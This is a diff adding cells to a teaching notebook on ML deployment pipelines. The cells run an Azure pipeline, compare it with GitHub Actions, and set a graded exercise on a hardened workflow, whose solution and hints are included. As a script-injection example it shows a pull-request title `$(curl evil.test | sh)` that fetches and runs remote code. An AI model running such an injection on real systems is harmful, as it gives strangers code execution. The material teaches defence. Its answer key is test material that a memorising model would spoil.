@@ -19,10 +19,14 @@
 # %% tags=["setup"]
 import json
 import math
+import os
 import re
 import subprocess
+import sys
+import tempfile
 from collections import Counter
 from graphlib import TopologicalSorter
+from pathlib import Path
 
 import matplotlib.pyplot as plt
 import numpy as np
@@ -503,6 +507,294 @@ if check.ready("PIPELINE", "told"):
     for target in ("gate", "canary"):
         print(f"make {target} fails:")
         told(PIPELINE, Scenario(Start(reason="Schedule"), outcomes={f"make {target}": 1}))
+
+# %% [markdown]
+# ### For real
+#
+# Simulation tells what a pipeline *would* call. The platform's `lmops pipeline run` does it for real, with
+# the same engine and bash in place of the scenario. The next cell makes a small project in a temporary
+# folder: a Makefile with the nine targets, and your pipeline. It is run twice, the second time with a gate
+# that says no.
+
+# %% tags=["demo"]
+MAKEFILE = """\
+test train register staging smoke canary production rollback:
+\t@echo "make $@: done"
+gate:
+\t@echo "make gate: loss $(LOSS), at most 0.70"
+\t@$(PYTHON) -c "import sys; sys.exit(float('$(LOSS)') > 0.70)"
+"""
+
+
+def run_for_real(text, loss):
+    """Run a pipeline in a folder of its own, with a candidate of this loss; print what is said."""
+    with tempfile.TemporaryDirectory() as folder:
+        Path(folder, "Makefile").write_text(MAKEFILE)
+        Path(folder, "azure-pipelines.yml").write_text(text)
+        command = [sys.executable, "-m", "lmops.cli", "pipeline", "run", "azure-pipelines.yml"]
+        came = subprocess.run(
+            [*command, "--reason", "Schedule"],
+            cwd=folder,
+            env=os.environ | {"LOSS": str(loss), "PYTHON": sys.executable},
+            capture_output=True,
+            text=True,
+        )
+    if "No such command" in came.stderr:
+        print("This lmops has no `pipeline run` yet; the simulation above says the same.")
+        return
+    print((came.stdout + came.stderr).strip())
+    print("exit code:", came.returncode)
+
+
+if check.ready("PIPELINE"):
+    for loss in (0.66, 0.74):
+        print(f"--- a candidate with a loss of {loss:.2f}")
+        run_for_real(PIPELINE, loss)
+
+# %% [markdown]
+# ## And on GitHub?
+#
+# The same thoughts, in other words. There are no stages; jobs say what they `needs`. And there are
+# differences that hurt whoever takes one language for the other:
+#
+# | | Azure Pipelines | GitHub Actions |
+# |---|---|---|
+# | file | `azure-pipelines.yml` | `.github/workflows/*.yml` |
+# | starts | `trigger`, `pr`, `schedules` | `on: push`, `pull_request`, `schedule`, `workflow_dispatch` |
+# | a condition | `eq(variables['Build.SourceBranch'], 'refs/heads/main')` | `github.ref == 'refs/heads/main'` |
+# | and without a status function in it | runs after a failure too | has `success()` added |
+# | approval | environment of a deployment job | `environment:` of any job |
+# | after a failure | `on: failure:` | a step with `if: failure()` |
+# | a ready-made step | `task: Cache@2` | `uses: actions/cache@...` |
+#
+# The fourth row is the dangerous one: the same thought blocks here, and does not block there.
+#
+# What is new is *rights*. Each job on GitHub gets a **token** by which it may act on the repository. If
+# nobody says what for, it may do much. Then a test that reads a poisoned file can push to your main
+# branch. Four rules, each of which was paid for dearly by somebody:
+#
+# 1. **Least rights.** `permissions: {}` at the top takes everything away; each job gets back what it needs.
+# 2. **No stored keys.** The old way to reach the cloud is a key in the settings, which is valid for years.
+#    The new one is **OIDC** (OpenID Connect): the job shows the cloud a token, signed by GitHub, that says
+#    "I am the job *production* of this repository, on *main*", and gets a key that is over in an hour.
+#    For that it needs `id-token: write`. In our Makefile `make login` does it.
+# 3. **Pin.** `uses: someone/action@v4` runs whatever that tag points to *today*. In March 2025 the tags of
+#    tj-actions/changed-files, which thousands of repositories used, were moved to a version that printed
+#    their secrets. A commit cannot be moved: `@` and its 40 digits.
+# 4. **Names are text.** `run: echo "${{ github.event.pull_request.title }}"` puts the title *into the
+#    script* before it runs. Whoever opens a pull request called `$(curl evil.test | sh)` has a program run
+#    on your machine.
+#
+# **Predict first.** A stranger opens a pull request that changes the Makefile: `make test` now sends all
+# environment variables to them. Nobody has looked at it yet. What do they get?
+
+# %% [markdown] fold="Answer"
+# What the job of the tests has, at once: it runs *their* Makefile. With rule 1 and 2 that is the right to
+# read code that is public anyway. So the tests of a pull request are the job that should have least; and
+# nothing else should run for it.
+
+# %% [markdown]
+# This one works on a good day:
+
+# %%
+NAIVE_WORKFLOW = """
+name: Model
+on:
+  push:
+  pull_request:
+permissions: write-all
+jobs:
+  all:
+    runs-on: ubuntu-24.04
+    steps:
+      - uses: actions/checkout@v6
+      - run: make test
+      - run: make train
+      - run: make gate || echo "not so good"
+      - run: make login
+        env:
+          KEY: ${{ secrets.CLOUD_KEY }}
+      - run: make register
+      - run: make staging
+      - run: make smoke
+      - run: make canary
+      - run: make production
+"""
+CHECKOUT = "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2"
+
+# %% [markdown] contract="WORKFLOW"
+# `WORKFLOW` is a text: `.github/workflows/model.yml` for the same model, with the same nine targets and the
+# same environments. It is tried in the 26 situations of `PIPELINE`, and in eight more that ask what it may:
+#
+# | what happens | should |
+# |---|---|
+# | a test is poisoned, and takes the job's token | have `contents: read` at most; `id-token: write` only in jobs that call register, staging, canary, production or rollback |
+# | the cloud asks who is there | have `id-token: write` there, and `make login` before the first of them |
+# | somebody copies all stored secrets | have none: no `secrets.` |
+# | an action's tag is moved | have each `uses` pinned to a commit |
+# | a pull request has a script for a name | have no `${{ }}` within `run` |
+# | a later step reads `.git/config` | have `persist-credentials: false` below each checkout |
+# | two changes within a minute | let one wait: `concurrency` of the job of production, `cancel-in-progress: false` |
+# | a training never ends | have `timeout-minutes` in each job, 120 at most |
+#
+# They are worth nothing before a good day is a good day. The commit of checkout is in `CHECKOUT` above; a
+# `#` begins a comment in YAML. In the repository's settings, the environment `production` asks for a
+# reviewer, and does not take the one who started it.
+
+# %% exercise="WORKFLOW" minutes=40 level=4
+### BEGIN SOLUTION
+WORKFLOW = """
+name: Model
+on:
+  push:
+    branches: [main]
+  pull_request:
+    branches: [main]
+  schedule:
+    - cron: "0 3 * * *"
+  workflow_dispatch:
+
+permissions: {}
+
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    timeout-minutes: 15
+    permissions:
+      contents: read
+    steps:
+      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
+        with:
+          persist-credentials: false
+      - run: make test
+
+  candidate:
+    needs: test
+    if: github.ref == 'refs/heads/main'
+    runs-on: ubuntu-24.04
+    timeout-minutes: 90
+    permissions:
+      contents: read
+      id-token: write # to write into the registry
+    steps:
+      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
+        with:
+          persist-credentials: false
+      - run: make train
+      - run: make gate
+      - run: make login
+      - run: make register
+
+  staging:
+    needs: candidate
+    environment: staging
+    runs-on: ubuntu-24.04
+    timeout-minutes: 30
+    permissions:
+      contents: read
+      id-token: write # to deploy
+    steps:
+      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
+        with:
+          persist-credentials: false
+      - run: make login
+      - run: make staging
+      - run: make smoke
+
+  production:
+    needs: staging
+    environment: production
+    concurrency:
+      group: production
+      cancel-in-progress: false
+    runs-on: ubuntu-24.04
+    timeout-minutes: 60
+    permissions:
+      contents: read
+      id-token: write # to deploy
+    steps:
+      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
+        with:
+          persist-credentials: false
+      - run: make login
+      - run: make canary
+      - run: make production
+      - run: make rollback
+        if: failure()
+"""
+### END SOLUTION
+
+# %% check="WORKFLOW" tags=["nbval-check-output"]
+check("WORKFLOW")
+
+# %% [markdown] fold="Hint 1: four jobs"
+# test; candidate (train, gate, login, register); staging; production. Each needs the one before, and all
+# begin with a checkout. Only candidate has an `if`: what needs a skipped job is skipped too.
+
+# %% [markdown] fold="Hint 2: the rollback"
+# The last step of the job `production`, with `if: failure()`: it runs when an earlier step *of this job*
+# has failed. In a job of its own `failure()` would look all the way back.
+
+# %% [markdown] fold="Hint 3: what starts it"
+# Four events below `on`: push and pull_request for main, schedule with a `cron`, and `workflow_dispatch`
+# with nothing behind its colon.
+
+# %% [markdown]
+# A training that runs each night inside the pipeline of the application is a compromise, which keeps
+# these files short. In the project's own repository there is `pipelines/retrain.yml` beside
+# `azure-pipelines.yml`: it starts by the clock, or when drift was noticed (lesson 15), trains, gates and
+# registers a candidate, and never stands in the way of a change of the program.
+#
+# ## Who looks at it before?
+#
+# A pipeline checks what can be computed. Whether a change is *wise* a person has to say, and for that
+# teams have habits, which the tools only hold them to:
+#
+# - **Branches.** Nobody pushes to `main`. A change is a short-lived branch, of hours or a few days, with a
+#   pull request. Long-lived branches are merged with tears; so what is not finished goes in switched off
+#   (trunk-based development).
+# - **Review.** Another person reads it: is it clear, is it tested, what happens if it is wrong? Small
+#   changes are read, large ones are nodded through. The branch is *protected*: no merge without a review
+#   and a green pipeline, also for those who could change the rule. And who may change the *pipeline*
+#   itself? Whoever can, can do all that it can: so its file has owners who must review it (CODEOWNERS).
+# - **Boards.** What is to be done is a card: why, for whom, and how one would see that it is done. The card
+#   moves from *to do* over *doing* and *review* to *done*, with few cards in *doing* at a time (Kanban). The
+#   commit names the card, and the model's lineage (lesson 11) names the commit: a year later somebody can
+#   ask why.
+#
+# And the work on a model as a whole? Two process models are taught most. **CRISP-DM** (1999: business
+# understanding, data understanding, data preparation, modelling, evaluation, deployment) is a circle drawn
+# for reports that somebody reads. **TDSP** (Microsoft, 2016) adds roles, a common layout of the
+# repository, and a customer who accepts. Hold both against your day:
+#
+# | your day | CRISP-DM | TDSP |
+# |---|---|---|
+# | objective in numbers, before the results (10) | success criteria | charter with metrics |
+# | a gate that blocks by itself (10) | evaluation, by people | acceptance, by people |
+# | which version is it? lineage, four eyes (11) | – | version control of code, templates |
+# | a service with keys, limits, privacy (12) | a plan for deployment | deployment to an endpoint |
+# | pipelines that react (13) | – | in part: operational pipelines |
+# | canary, rollback, alerts (14) | a plan for monitoring | – |
+# | drift, retraining, erasure, retirement (15) | a plan for maintenance | – |
+#
+# What both leave out is the right side of the year: after the hand-over the work begins.
+# CRISP-ML(Q) (Studer and others, 2021) adds monitoring and maintenance as a sixth phase, and a question
+# about quality to every one.
+#
+# The large vendors sell what you write here by hand:
+#
+# | | Azure Machine Learning | Amazon SageMaker AI | Google Vertex AI |
+# |---|---|---|---|
+# | a training pipeline | pipelines of components (YAML or Python) | SageMaker Pipelines, with condition steps | Vertex AI Pipelines (Kubeflow) |
+# | versions | models in a registry | Model Registry, with an approval status | Model Registry, with aliases |
+# | a new one beside the old one | several deployments of an endpoint: share of traffic, mirrored traffic | deployment guardrails: all at once, canary, linear | several models at an endpoint: traffic split |
+# | back by itself | no: you set the traffic back | yes, by CloudWatch alarms | no: you set the traffic back |
+# | who starts it | Azure Pipelines, GitHub Actions | EventBridge, CodePipeline, GitHub Actions | Cloud Build, a scheduler |
+#
+# Sources: learn.microsoft.com/azure/machine-learning/how-to-safely-rollout-online-endpoints;
+# docs.aws.amazon.com/sagemaker/latest/dg/deployment-guardrails.html;
+# cloud.google.com/vertex-ai/docs/general/deployment. None of the three writes your gate, or knows who
+# must not approve.
 
 # %% [markdown]
 # ## What must never be in it?
